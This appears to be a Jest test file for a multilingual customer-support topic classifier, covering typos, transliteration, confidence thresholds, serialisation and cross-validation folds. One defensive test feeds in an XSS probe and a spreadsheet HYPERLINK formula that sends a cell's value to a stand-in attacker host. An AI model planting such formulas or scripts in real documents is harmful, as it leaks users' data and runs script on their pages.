import { stratifiedFolds, TopicClassifier } from '../../../nodes/shared/classifier';
import { SUPPORT_EXAMPLES } from './examples';

describe('a topic classifier trained on a few support messages in four languages', () => {
	const classifier = TopicClassifier.train(SUPPORT_EXAMPLES);

	it.each([
		['a Russian customer with a typo', 'где мой закказ??', 'order_status', 'ru'],
		['Russian typed in Latin letters', 'gde moy zakaz', 'order_status', 'ru'],
		['Latin-typed Russian with another spelling', 'kogda sleduyushchiy rozygrysh', 'next_draw', 'ru'],
		['a word mixing Latin and Cyrillic look-alike letters', 'Сколькo дeнег на счeту', 'balance', 'ru'],
		['a Ukrainian customer', 'скільки в мене грошей на рахунку', 'balance', 'uk'],
		['French without accents', 'je voudrais changer mon adresse de livraison', 'delivery_address', 'fr'],
		['French with a typo', 'rembourssement svp', 'refund', 'fr'],
		['English shouting', 'WHERE IS MY ORDER', 'order_status', 'en'],
		['English asking for a person', 'can i speak to a human operator', 'operator', 'en'],
		['Ukrainian with the wrong apostrophe', "з'єднайте з оператором будь ласка", 'operator', 'uk'],
	])('%s: "%s" is %s', (_scenario, text, topic, language) => {
		const result = classifier.classify(text);
		expect(result.topic).toBe(topic);
		expect(result.language).toBe(language);
	});

	it('gives a calibrated confidence with up to three alternatives, best first', () => {
		const result = classifier.classify('Where is my order?');
		expect(result.unsure).toBe(false);
		expect(result.alternatives).toHaveLength(3);
		expect(result.alternatives.map((a) => a.topic)).not.toContain('order_status');
		const confidences = [result.confidence, ...result.alternatives.map((a) => a.confidence)];
		expect([...confidences].sort((a, b) => b - a)).toEqual(confidences);
		expect(confidences.reduce((a, b) => a + b)).toBeLessThanOrEqual(1 + 1e-9);
	});

	// Ten examples a topic cannot tell a recipe from a request: such a model is sure of nothing it has
	// not seen. What it owes the caller is that an unseen subject is less sure than every known one,
	// so that a threshold between them (the bot calibrates its cut at 0.86-0.96 on such sets) flags it.
	it.each([
		'What is the weather in Paris tomorrow?',
		'Какая столица Австралии?',
		'Рецепт борща с пампушками',
	])('an out-of-domain message "%s" is less sure than any support question and flagged unsure at 0.8', (text) => {
		const supportQuestions = ['где мой закказ??', 'gde moy zakaz', 'скільки в мене грошей на рахунку', 'rembourssement svp', 'WHERE IS MY ORDER', 'Where is my order?'];
		const leastSure = Math.min(...supportQuestions.map((question) => classifier.classify(question).confidence));
		const result = classifier.classify(text, 0.8);
		expect(result.unsure).toBe(true);
		expect(result.confidence).toBeLessThan(leastSure);
	});

	it('the caller decides the threshold', () => {
		const text = 'где мой заказ';
		const { confidence } = classifier.classify(text);
		expect(classifier.classify(text, confidence - 0.01).unsure).toBe(false);
		expect(classifier.classify(text, confidence + 0.01).unsure).toBe(true);
	});

	it('round-trips through JSON with identical predictions', () => {
		const restored = TopicClassifier.fromJSON(JSON.parse(JSON.stringify(classifier)));
		for (const text of ['gde moy zakaz', 'Quel est mon solde', 'refund please', 'Рецепт борща', '']) {
			expect(restored.classify(text)).toEqual(classifier.classify(text));
		}
	});

	it('refuses a JSON document that is not a classifier', () => {
		expect(() => TopicClassifier.fromJSON({ ...classifier.toJSON(), format: 'something-else' } as never)).toThrow(/format/);
		expect(() => TopicClassifier.fromJSON({ ...classifier.toJSON(), weights: '' })).toThrow(/inconsistent/);
		// A model stored by an older version: refused, so the store retrains instead of misreading it.
		expect(() => TopicClassifier.fromJSON({ ...classifier.toJSON(), version: 1 } as never)).toThrow(/version/);
	});

	it('training is a pure function of the examples: the same list gives the same model', () => {
		expect(TopicClassifier.train(SUPPORT_EXAMPLES).toJSON()).toEqual(classifier.toJSON());
	});

	it("an operator's correction fed back with the examples changes the answer", () => {
		const text = 'посылка потерялась';
		const corrected = TopicClassifier.train([
			...SUPPORT_EXAMPLES,
			{ text, label: 'refund' },
			{ text: 'посылка потерялась, верните деньги', label: 'refund' },
		]);
		expect(corrected.classify(text).topic).toBe('refund');
	});

	it('HTML and spreadsheet formulas in training examples are learned as plain text', () => {
		const withMarkup = TopicClassifier.train([
			...SUPPORT_EXAMPLES,
			{ text: '<b>promo code</b> <script>alert(1)</script> does not work', label: 'promo_code' },
			{ text: '=HYPERLINK("http://evil.example/?leak="&A1,"promo code invalid")', label: 'promo_code' },
			{ text: 'my promo code is rejected', label: 'promo_code' },
		]);
		expect(withMarkup.topics).toContain('promo_code');
		expect(withMarkup.classify('the promo code does not work').topic).toBe('promo_code');
		expect(withMarkup.classify('=HYPERLINK("x","where is my order")').topic).toBe('order_status');
	});

	it('needs at least two topics to learn anything', () => {
		expect(() => TopicClassifier.train([{ text: 'hello', label: 'greeting' }])).toThrow(/two topics/);
	});
});

describe('a knowledge base too small for the networks is calibrated on every example it has', () => {
	it('holds each example of a topic with two or more out once, in five folds, and never a topic’s only one', () => {
		const examples = [...SUPPORT_EXAMPLES, { text: 'do you sell gift cards', label: 'gift_cards' }];
		const folds = stratifiedFolds(examples, (e) => e.label, 5, 7);
		const heldTimes = new Map(examples.map((e) => [e, folds.filter((f) => f.held.includes(e)).length]));

		expect(examples.filter((e) => e.label !== 'gift_cards').every((e) => heldTimes.get(e) === 1)).toBe(true);
		expect(heldTimes.get(examples.at(-1)!)).toBe(0);
		expect(folds.every((f) => f.held.length + f.kept.length === examples.length)).toBe(true);
		expect(Math.max(...folds.map((f) => f.held.length)) - Math.min(...folds.map((f) => f.held.length))).toBeLessThanOrEqual(1);

		const classifier = TopicClassifier.train(examples);
		expect(classifier.heldOut).toHaveLength(SUPPORT_EXAMPLES.length);
	});
});
